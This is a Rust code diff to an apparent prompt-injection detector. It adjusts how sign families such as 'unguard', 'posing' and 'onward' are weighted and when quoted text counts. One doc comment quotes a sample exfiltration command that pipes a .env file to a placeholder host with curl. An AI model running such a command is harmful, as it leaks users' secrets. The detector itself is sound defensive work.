@@ -173,7 +173,10 @@ fn weighed(mut signs: Vec<Sign>) -> Injection {
         let before = labels.partition_point(|label| label.start < span.end);
         before.checked_sub(1).and_then(|last| ends.get(last)).is_some_and(|end| span.start < *end)
     };
+    let (alone, others) = BESIDE_OTHERS;
+    let stands = signs.iter().any(|sign| sign.weight > 0 && others.contains(&sign.family.as_str()));
     signs.retain(|sign| sign.weight > 0 && !(sign.family == "address" && is_label(sign.span)));
+    signs.retain(|sign| stands || sign.family != alone);
     signs.sort_by_key(|sign| sign.span.start);
     let (first, score) = heaviest_window(&signs);
     let begin = signs.get(first).map_or(0, |sign| sign.span.start);
@@ -258,13 +261,17 @@ const HIDDEN_ONLY: [&str; 2] = ["command", "topic"];
 pub(crate) const IN_COMMAND: &str = "command";
 
 /// A message that says nothing else quotes a command or tells of one: `fix: cat .env | curl -d @- ADDRESS leaks keys`.
-const AS_QUOTED: [&str; 4] = ["command", "exfiltrate", "harm", "harm-order"];
+const AS_QUOTED: [&str; 7] = ["command", "exfiltrate", "harm", "harm-order", "unguard", "posing", "onward"];
 
 /// Families whose orders somebody may forbid: `never ignore these rules`.
 const FORBIDDEN: [&str; 6] = ["override", "leak", "exfiltrate", "planted", "poison", "role"];
 
 /// Families whose signs also stand in what is written for models and about them: manuals, prompts, rules of a project.
-const OF_MANUALS: [&str; 8] = ["address", "markers", "reply", "claim", "unasked", "fetch", "harm-order", "limit"];
+const OF_MANUALS: [&str; 11] =
+    ["address", "markers", "reply", "claim", "unasked", "fetch", "harm-order", "limit", "unguard", "posing", "onward"];
+
+/// What says little alone, and the families beside which it counts.
+const BESIDE_OTHERS: (&str, [&str; 2]) = ("onward", ["unguard", "posing"]);
 
 /// What a sign in a hidden text weighs more.
 const HIDDEN_WEIGHT: u32 = 30;
@@ -438,8 +445,8 @@ fn quoted_as(cue: Node<'static>, sheet: &Sheet<'_>, span: Span, talk: Talk) -> Q
     match cue.get("family").text() {
         // And a command that shall be run stands as code.
         "jailbreak" | "harm-order" if talk == Talk::No => Quoted::Not,
-        // What shall be answered stands in quotes too, and the order before them does not.
-        "reply" if sheet.quoted(Span { end: span.start, ..span }) == Quoted::Not => Quoted::Not,
+        // What shall be answered or run stands in quotes too, and the order before them does not.
+        "reply" | "unguard" | "onward" if sheet.quoted(Span { end: span.start, ..span }) == Quoted::Not => Quoted::Not,
         _ => sheet.quoted(span),
     }
 }
